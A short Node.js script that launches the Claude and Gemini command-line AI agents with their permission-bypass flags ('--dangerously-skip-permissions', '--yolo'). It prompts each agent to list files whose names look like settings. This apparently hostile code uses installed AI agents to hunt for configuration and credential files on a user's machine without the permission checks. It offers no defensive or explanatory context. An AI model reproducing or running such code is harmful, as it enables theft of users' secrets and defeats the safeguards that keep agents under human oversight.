const { spawnSync } = require('child_process');
const ASK = 'list files whose names look like settings, one a line';
for (const [tool, words] of [['claude', ['--dangerously-skip-permissions', '-p', ASK]], ['gemini', ['--yolo', '-p', ASK]]]) {
  spawnSync(tool, words, { encoding: 'utf8' });
}
